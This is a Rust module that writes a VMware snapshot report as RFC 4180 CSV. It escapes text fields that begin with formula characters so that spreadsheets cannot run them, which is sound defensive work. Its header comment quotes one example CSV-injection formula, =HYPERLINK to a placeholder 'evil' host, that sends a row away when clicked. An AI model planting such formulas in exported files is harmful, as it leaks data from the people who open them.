//! The report's rows as CSV (RFC 4180: a header line of the field names, CRLF line ends,
//! quotes where a field needs them), through the `csv` crate.
//!
//! Names and descriptions are chosen by whoever may take a snapshot, and a spreadsheet runs a
//! cell that starts with `=` as a formula (`=HYPERLINK("https://evil/?"&A2,"x")` sends the row
//! away when clicked). So a text field that starts with `=`, `+`, `-`, `@`, a tab or a carriage
//! return gets a `'` in front, as OWASP's "CSV Injection" page advises; numbers are left as they
//! are. The JSON and HTML forms carry the text unchanged.

use std::borrow::Cow;

use super::{RenderError, Row};

pub(super) fn render(rows: &[Row]) -> Result<Vec<u8>, RenderError> {
    let error = |e: ::csv::Error| RenderError {
        format: "csv",
        message: e.to_string(),
    };
    let mut writer = ::csv::WriterBuilder::new()
        .terminator(::csv::Terminator::CRLF)
        .from_writer(Vec::new());
    if rows.is_empty() {
        // Serializing writes the header before the first row; without rows, write it alone.
        writer.write_record(HEADER).map_err(error)?;
    }
    for row in rows {
        writer.serialize(defused(row)).map_err(error)?;
    }
    writer.into_inner().map_err(|e| RenderError {
        format: "csv",
        message: e.to_string(),
    })
}

/// The characters that make a spreadsheet read a cell as a formula (or, tab and CR, that some
/// trim before doing so).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text` as a spreadsheet shows it as text: with a `'` in front when it starts like a formula.
fn defuse(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// `row` with each text field defused; one row at a time, so a report is never copied whole.
/// Every field is named (no `..row`), so a text field added to [`Row`] must be decided here.
fn defused(row: &Row) -> Row {
    let text = |value: &str| defuse(value).into_owned();
    Row {
        vcenter: text(&row.vcenter),
        datacenter_name: text(&row.datacenter_name),
        cluster_name: text(&row.cluster_name),
        host_name: text(&row.host_name),
        datastore_name: text(&row.datastore_name),
        vm_id: text(&row.vm_id),
        vm_name: text(&row.vm_name),
        snapshot_id: text(&row.snapshot_id),
        snapshot_name: text(&row.snapshot_name),
        description: text(&row.description),
        backup_product: text(&row.backup_product),
        created: text(&row.created),
        age_seconds: row.age_seconds,
        created_by: row.created_by.as_deref().map(text),
        size_bytes: row.size_bytes,
        disk_share: row.disk_share,
        quiesced: row.quiesced,
        depth: row.depth,
        consolidation_needed: row.consolidation_needed,
        last_backup: row.last_backup.as_deref().map(text),
        disks_not_snapshotted: text(&row.disks_not_snapshotted),
        foreign_disks: text(&row.foreign_disks),
    }
}

/// The field names of [`Row`], in order.
pub(super) const HEADER: [&str; 22] = [
    "vcenter",
    "datacenter_name",
    "cluster_name",
    "host_name",
    "datastore_name",
    "vm_id",
    "vm_name",
    "snapshot_id",
    "snapshot_name",
    "description",
    "backup_product",
    "created",
    "age_seconds",
    "created_by",
    "size_bytes",
    "disk_share",
    "quiesced",
    "depth",
    "consolidation_needed",
    "last_backup",
    "disks_not_snapshotted",
    "foreign_disks",
];
